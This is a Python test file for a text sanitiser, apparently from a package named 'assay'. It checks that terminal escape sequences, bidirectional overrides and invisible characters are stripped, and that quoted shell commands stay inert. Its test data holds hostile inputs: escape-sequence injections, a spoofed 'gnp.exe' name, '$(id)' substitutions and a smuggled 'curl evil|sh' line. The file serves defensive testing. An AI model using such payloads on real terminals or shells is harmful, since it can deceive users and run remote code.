"""Text made safe to show, at the height of single strings, where attacks are easiest to read."""

from __future__ import annotations

import os
import subprocess
import unicodedata

from hypothesis import given
from hypothesis import strategies as st

from assay.reports.plain import first_lines, last_lines, natural, one_line, plain
from assay.shown import command
from tests.each import each

ESC = "\x1b"


ATTACKS = {
    "clears the screen": (f"{ESC}[2J{ESC}[Hhi", "hi"),
    "overwrites the line above": (f"{ESC}[1A{ESC}[2KPASS", "PASS"),
    "8-bit control sequence": ("\x9b31mred", "red"),
    "OSC 8": (f"{ESC}]8;;https://evil.test{ESC}\\safe{ESC}]8;;{ESC}\\", "safe"),
    "sets the window title": (f"{ESC}]0;title\x07text", "text"),
    "device control string": (f"{ESC}P+q544e{ESC}\\x", "x"),
    "resets the terminal": (f"{ESC}cx", "x"),
    "switches the character set": (f"{ESC}(0x", "x"),
    "unterminated string hides nothing": (f"{ESC}]0;never ended", "0;never ended"),
    "nested introducer": (f"{ESC}[{ESC}[31mx", "x"),
    "carriage return overwrites": ("FAIL\rPASS", "FAIL\nPASS"),
    "backspace overwrites": ("FAIL\b\b\b\bPASS", "FAIL\\x08\\x08\\x08\\x08PASS"),
    "right-to-left override": ("a\u202egnp.exe", "a\\u202egnp.exe"),
    "zero width": ("a\u200bb\ufeff", "a\\u200bb\\ufeff"),
    "tag characters": ("a\U000e0041", "a\\U000e0041"),
    "lone surrogate": ("a\ud800b", "a\\ud800b"),
    "ordinary white space stays": ("one\r\ntwo\ttab", "one\ntwo\ttab"),
    "ordinary text stays": ("héllo 漢字 👩\u200d💻", "héllo 漢字 👩\u200d💻"),
}


@each("name", ATTACKS)
def test_nothing_shown_can_act_on_a_terminal(name: str) -> None:
    attack, shown = ATTACKS[name]
    assert plain(attack) == shown


@given(st.text(st.characters(exclude_categories=()), max_size=200))
def test_plain_text_has_no_control_direction_or_surrogate_character(text: str) -> None:
    shown = plain(text)
    left = {c for c in shown if unicodedata.category(c) in ("Cc", "Cs", "Zl", "Zp")}
    assert left <= {"\n", "\t"}
    marks = {"LRE", "RLE", "LRO", "RLO", "PDF", "LRI", "RLI", "FSI", "PDI"}
    assert not [c for c in shown if unicodedata.bidirectional(c) in marks]
    assert plain(shown) == shown


def test_a_flood_keeps_head_and_tail_and_ends_soon() -> None:
    shown = plain("head" + f"{ESC}]x" * 400_000 + "tail")
    assert shown.startswith("head")
    assert shown.endswith("tail")
    assert "characters cut" in shown
    assert len(shown) < 200_000


def test_lines_are_kept_from_the_end_that_matters() -> None:
    assert one_line("a\n\n  b\tc") == "a b c"
    assert one_line("x" * 50, 10) == "x" * 9 + "…"
    text = "\n".join(str(n) for n in range(1, 7))
    assert first_lines(text, 2) == ["1", "2", "… 4 lines more"]
    assert last_lines(text, 2) == ["… 4 lines before", "5", "6"]
    assert last_lines("a\nb", 1) == ["… 1 line before", "b"]
    assert first_lines("a\nb", 2) == ["a", "b"]
    assert first_lines(" \n \n", 3) == []
    assert first_lines("abcdef", 1, width=4) == ["abcd… 2 characters more"]


def test_names_with_numbers_stand_in_the_order_in_which_people_count() -> None:
    names = ["10", "1", "a10b2", "2", "a9b10", "a10b1", "", "b", f"x{'9' * 5000}", "x010", "x9"]
    assert sorted(names, key=natural) == (
        ["", "1", "2", "10", "a9b10", "a10b1", "a10b2", "b", "x9", "x010", f"x{'9' * 5000}"]
    )


def test_attack_a_copied_command_neither_ends_early_nor_is_obeyed_by_the_terminal() -> None:
    words = [
        "plain", "a b", "", "it's", "$(id)", "`id`", "\\", "é", "x\x03\ncurl evil|sh\n",
        "\x1b[201~'", "\u202egnp",
        "a\u200bb", "\x01f'\\", "\x85\u2028", "\U000e0041", "--", "~", "*",
    ]  # fmt: skip
    written = command("printf", r"%s\0", *words)
    assert written.isprintable()
    told = subprocess.run(
        ["bash", "-c", written],
        stdout=subprocess.PIPE,
        check=True,
        env={"PATH": os.environ["PATH"], "LC_ALL": "C.UTF-8"},
    )
    assert told.stdout.decode().split("\0")[:-1] == words
